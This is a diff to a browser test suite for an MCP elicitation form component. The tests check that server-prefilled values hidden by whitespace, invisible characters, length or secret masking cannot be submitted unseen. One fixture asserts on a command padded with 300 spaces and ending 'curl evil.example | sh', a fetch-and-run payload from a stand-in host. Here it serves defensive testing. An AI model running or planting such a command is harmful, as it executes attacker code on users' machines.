@@ -1,6 +1,7 @@
 import { expect } from '@open-wc/testing';
-import { sendKeys } from '@web/test-runner-commands';
+import { sendKeys, sendMouse } from '@web/test-runner-commands';
 import type { McpElicitation } from '../../src/index.js';
+import { until } from '../tools/until.mjs';
 import {
   accepted,
   chord,
@@ -10,8 +11,11 @@ import {
   field,
   find,
   findAll,
+  look,
+  plain,
   press,
   record,
+  referred,
   schemaOf,
   show,
 } from './helpers.js';
@@ -22,10 +26,41 @@ const long = 'Keep everything private, share nothing with anybody and store no c
 
 const offer = (element: McpElicitation, key: string) => field(element, key).querySelector<HTMLElement>('.offer');
 const buttonIn = (element: McpElicitation, key: string) => offer(element, key)!.querySelector('button')!;
-const plain = (node: Element | null) => node?.textContent?.replace(/\s+/g, ' ').trim();
 
 /** Whether a control cuts off a part of its text. */
 const isCut = (box: Element) => box.scrollHeight > box.clientHeight + 1 || box.scrollWidth > box.clientWidth + 1;
+
+const PRESENTATIONS = ['dialog', 'inline'] as const;
+
+/** Waits until the browser has said what is in view. */
+function observed(element: McpElicitation): Promise<void> {
+  return new Promise((resolve) => {
+    const observer = new IntersectionObserver(() => {
+      observer.disconnect();
+      resolve();
+    });
+    observer.observe(find(element, '.footer'));
+  });
+}
+
+/** Clicks with a real mouse, as a person does who has looked at the card. */
+async function clickByMouse(element: McpElicitation, button: HTMLElement): Promise<void> {
+  await observed(element);
+  look(500);
+  button.scrollIntoView({ block: 'nearest' });
+  const { x, y, width, height } = button.getBoundingClientRect();
+  await sendMouse({ type: 'click', position: [1, 1] }); // The next click must not be part of a double click.
+  await sendMouse({ type: 'click', position: [Math.round(x + width / 2), Math.round(y + height / 2)] });
+  await element.updateComplete;
+}
+
+/** Submits by mouse. Each click but the last leads to a value that was out of view. @returns the content of `accept` */
+async function acceptedByMouse(element: McpElicitation): Promise<Record<string, unknown> | undefined> {
+  let content: Record<string, unknown> | undefined;
+  element.addEventListener('accept', (event) => (content = event.content), { once: true });
+  for (let clicks = 0; clicks < 20 && !content; clicks++) await clickByMouse(element, find(element, '[part~=submit]'));
+  return content;
+}
 
 async function click(element: McpElicitation, button: HTMLElement) {
   button.click();
@@ -33,7 +68,7 @@ async function click(element: McpElicitation, button: HTMLElement) {
 }
 
 describe('a value that its field would not show whole', () => {
-  it('is not filled in; the field offers it with its invisible characters spelled out [SEE-01]', async () => {
+  it('is not filled in; the field offers it with its invisible characters spelled out', async () => {
     const element = await show({ schema: schemaOf({ command }) });
     expect(control(element, 'command').value).to.equal('');
     expect(plain(offer(element, 'command'))).to.equal(
@@ -42,7 +77,7 @@ describe('a value that its field would not show whole', () => {
     expect(await accepted(element)).to.deep.equal({});
   });
 
-  it('is sent byte for byte when the person uses it, and not after they take that back [SEE-01]', async () => {
+  it('is sent byte for byte when the person uses it, and not after they take that back', async () => {
     const element = await show({ schema: schemaOf({ command }) });
     const use = buttonIn(element, 'command');
     await click(element, use);
@@ -55,18 +90,36 @@ describe('a value that its field would not show whole', () => {
     expect(await accepted(element)).to.deep.equal({ command: command.default });
   });
 
-  it('can be used with the keyboard, and the button names the field [SEE-01]', async () => {
+  for (const presentation of PRESENTATIONS) {
+    it(`is not sent by a click on Submit of a card shown as ${presentation}, and is sent once the person has clicked on "Use this value" [SEE-01]`, async () => {
+      const untouched = await show({ schema: schemaOf({ command }), presentation });
+      expect(await acceptedByMouse(untouched)).to.deep.equal({});
+      const element = await show({ schema: schemaOf({ command }), presentation });
+      expect(plain(offer(element, 'command'))).to.contain('ls -la⟨U+0020 ×300⟩; curl evil.example | sh');
+      await clickByMouse(element, buttonIn(element, 'command'));
+      expect(await acceptedByMouse(element)).to.deep.equal({ command: command.default });
+    });
+
+    it(`can be used with the keyboard in a card shown as ${presentation} [SEE-01]`, async () => {
+      const element = await show({ schema: schemaOf({ command }), presentation });
+      const input = control(element, 'command');
+      input.focus();
+      await sendKeys({ press: 'Tab' });
+      expectFocus(element, buttonIn(element, 'command'));
+      await sendKeys({ press: 'Enter' });
+      expect(element.values).to.deep.equal({ command: command.default });
+    });
+  }
+
+  it('is in a group that names the field, and is accessible', async () => {
     const element = await show({ schema: schemaOf({ command }) });
-    control(element, 'command').focus();
-    await sendKeys({ press: 'Tab' });
-    while (element.shadowRoot?.activeElement !== buttonIn(element, 'command')) await sendKeys({ press: 'Tab' });
-    await sendKeys({ press: 'Enter' });
-    expect(element.values).to.deep.equal({ command: command.default });
-    expect(offer(element, 'command')?.getAttribute('role')).to.equal('group');
+    const group = offer(element, 'command')!;
+    expect(group.getAttribute('role')).to.equal('group');
+    expect(referred(element, group, 'aria-labelledby')).to.contain('Command');
     await expect(element).to.be.accessible();
   });
 
-  it('is shown whole before it can be used, and focus goes to it [SEE-01]', async () => {
+  it('is shown whole before it can be used, and focus goes to it', async () => {
     const value = `ok${'\uFE01\uFE0E'.repeat(500)}`;
     const element = await show({ schema: schemaOf({ name: { ...text, default: value } }) });
     expect(plain(buttonIn(element, 'name'))).to.equal('Show all');
@@ -77,12 +130,12 @@ describe('a value that its field would not show whole', () => {
     expect(plain(buttonIn(element, 'name'))).to.equal('Use this value');
   });
 
-  it('is only mentioned where it is too long to be shown [SEE-01]', async () => {
+  it('is only mentioned where it is too long to be shown', async () => {
     const element = await show({ schema: schemaOf({ name: { ...text, default: 'x'.repeat(20_000) } }) });
     expect(plain(offer(element, 'name'))).to.equal('The suggestion is too long to be shown.');
   });
 
-  it('of a list shows each text, and becomes chips [SEE-01]', async () => {
+  it('of a list shows each text, and becomes chips', async () => {
     const names = { type: 'array', items: text, default: ['fine', 'o\u200Bk'] };
     const element = await show({ schema: schemaOf({ names }) });
     expect([...offer(element, 'names')!.querySelectorAll('.spelled p')].map(plain)).to.deep.equal([
@@ -94,7 +147,7 @@ describe('a value that its field would not show whole', () => {
     expect(await accepted(element)).to.deep.equal({ names: names.default });
   });
 
-  it('of a list shows some of very many short texts, and all of them at a press [SEE-01, END-16]', async () => {
+  it('of a list shows some of very many short texts, and all of them at a press', async () => {
     const items = Array.from({ length: 500 }, () => '');
     const element = await show({
       schema: schemaOf({ tags: { type: 'array', items: text, default: [...items, ' '] } }),
@@ -107,7 +160,7 @@ describe('a value that its field would not show whole', () => {
     expect(plain(buttonIn(element, 'tags'))).to.equal('Use this value');
   });
 
-  it('of a secret appears nowhere before the person asks for it [SEE-01, END-19]', async () => {
+  it('of a secret appears nowhere before the person asks for it [END-19]', async () => {
     const element = await show({ schema: schemaOf({ api_key: { ...text, default: 'sk-\u200B1234' } }) });
     expect(element.shadowRoot?.innerHTML).to.not.include('sk-');
     expect(plain(buttonIn(element, 'api_key'))).to.equal('Show');
@@ -128,23 +181,30 @@ describe('a control with a value that leaves untouched', () => {
     fixed: { const: long.repeat(5).trim() },
   };
 
-  for (const width of [640, 304]) {
-    it(`grows with it, so that nothing is cut in a card of ${width} pixels [SEE-01]`, async () => {
-      const element = await show({ schema: schemaOf(properties), presentation: 'inline' });
-      element.style.inlineSize = `${width}px`;
-      for (let frame = 0; frame < 10; frame++) await new Promise(requestAnimationFrame);
-      for (const key of Object.keys(properties)) {
-        const box = field(element, key).querySelector('textarea, input:not([type=radio]), p[part~=control]')!;
-        const sizes = [box.scrollWidth, box.clientWidth, box.scrollHeight, box.clientHeight];
-        expect(isCut(box), `${key}: ${sizes}`).to.equal(false);
-      }
-      expect(await accepted(element)).to.deep.equal(
+  for (const [presentation, width] of [
+    ['dialog', 640],
+    ['dialog', 304],
+    ['inline', 640],
+    ['inline', 304],
+  ] as const) {
+    it(`grows with it, so that a click on Submit sends nothing that was cut in a card shown as ${presentation}, ${width} pixels wide [SEE-01]`, async () => {
+      const element = await show({ schema: schemaOf(properties), presentation });
+      element.style.setProperty('--mcp-elicitation-width', `${width}px`);
+      expect(find(element, '[part~=dialog]').getBoundingClientRect().width).to.equal(width);
+      const boxes = Object.keys(properties).map(
+        (key) => field(element, key).querySelector('textarea, input:not([type=radio]), p[part~=control]')!,
+      );
+      // Engines without `field-sizing` grow a control some frames later.
+      await until(function nothingIsCut() {
+        return boxes.every((box) => box.clientHeight > 0 && !isCut(box));
+      });
+      expect(await acceptedByMouse(element)).to.deep.equal(
         Object.fromEntries(Object.entries(properties).map(([key, p]) => [key, 'default' in p ? p.default : p.const])),
       );
     });
   }
 
-  it('shows the whole label of a chosen option below a control that cuts it [SEE-01]', async () => {
+  it('shows the whole label of a chosen option below a control that cuts it', async () => {
     const title = `${long}Except for our partners, who get everything`;
     const options = (count: number) =>
       Array.from({ length: count }, (_, i) => ({ const: `v${i}`, title: i === 0 ? title : `Option ${i}` }));
@@ -156,7 +216,7 @@ describe('a control with a value that leaves untouched', () => {
     }
   });
 
-  it('shows all of 200 preselected rights [SEE-01]', async () => {
+  it('shows all of 200 preselected rights', async () => {
     const rights = Array.from({ length: 200 }, (_, i) => `right ${i}`);
     const element = await show({
       schema: schemaOf({ rights: { type: 'array', items: { enum: rights }, default: rights } }),
@@ -164,7 +224,7 @@ describe('a control with a value that leaves untouched', () => {
     expect(findAll(element, '.chip bdi').map(({ textContent }) => textContent)).to.deep.equal(rights);
   });
 
-  it('submits at Enter like a single line; Shift with Enter makes another one [SEE-01]', async () => {
+  it('submits at Enter like a single line; Shift with Enter makes another one', async () => {
     const element = await show({ schema: schemaOf({ terms: properties.terms }) });
     const names = record(element);
     const terms = control<HTMLTextAreaElement>(element, 'terms');
@@ -182,7 +242,7 @@ describe('a control with a value that leaves untouched', () => {
 describe('a fixed value with a part that hides', () => {
   const schema = schemaOf({ scope: { title: 'Scope', const: 'read\u200B\u{E0061}' } });
 
-  it('makes a form that cannot be sent, and says why [SEE-01]', async () => {
+  it('makes a form that cannot be sent, and says why', async () => {
     const element = await show({ schema });
     expect(plain(find(element, '[part~=warning-unsupported]'))).to.equal(
       'A part of this value would stay hidden: read⟨U+200B U+E0061⟩ This form cannot be submitted.',
@@ -193,7 +253,7 @@ describe('a fixed value with a part that hides', () => {
     await expect(element).to.be.accessible();
   });
 
-  it('cannot be sent either where answers with errors may be [SEE-01]', async () => {
+  it('cannot be sent either where answers with errors may be', async () => {
     const element = await show({ schema, validate: 'warn' });
     await press(element, 'submit');
     expect(await accepted(element)).to.equal(undefined);
@@ -203,7 +263,7 @@ describe('a fixed value with a part that hides', () => {
 describe('a secret that the server filled in', () => {
   const schema = schemaOf({ pin_code: { ...text, default: 'transfer 5000 EUR' } });
 
-  it('is not sent while it shows as dots; a press on "Show" makes it readable, and it is sent [SEE-01]', async () => {
+  it('is not sent while it shows as dots; a press on "Show" makes it readable, and it is sent', async () => {
     const element = await show({ schema });
     expect(await accepted(element)).to.equal(undefined);
     expect(errorOf(element, 'pin_code')).to.equal('Show this value before you submit it.');
@@ -213,7 +273,7 @@ describe('a secret that the server filled in', () => {
     expect(await accepted(element)).to.deep.equal({ pin_code: 'transfer 5000 EUR' });
   });
 
-  it('is sent at once where the application suggested it [SEE-01]', async () => {
+  it('is sent at once where the application suggested it', async () => {
     const element = await show({ schema: schemaOf({ pin_code: text }), defaultValues: { pin_code: '1234' } });
     expect(await accepted(element)).to.deep.equal({ pin_code: '1234' });
   });
